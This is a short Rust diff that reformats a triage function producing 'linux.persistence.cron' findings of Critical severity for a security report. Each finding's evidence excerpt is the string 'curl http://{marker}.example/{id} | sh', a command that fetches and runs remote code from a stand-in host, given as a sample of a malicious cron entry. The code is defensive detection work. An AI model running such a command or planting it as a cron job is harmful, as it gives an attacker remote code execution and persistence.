@@ -105,8 +105,15 @@ pub fn triage(host: &str, ids: &[&str], marker: &str, finished: &str) -> TriageR
     .unwrap();
     for id in ids {
         r.findings.push(
-            Finding::new("linux.persistence.cron", format!("{marker} cron job {id}"), Severity::Critical)
-                .evidence(Evidence::at(format!("/etc/cron.d/{id}")).excerpt(format!("curl http://{marker}.example/{id} | sh"))),
+            Finding::new(
+                "linux.persistence.cron",
+                format!("{marker} cron job {id}"),
+                Severity::Critical,
+            )
+            .evidence(
+                Evidence::at(format!("/etc/cron.d/{id}"))
+                    .excerpt(format!("curl http://{marker}.example/{id} | sh")),
+            ),
         );
     }
     r
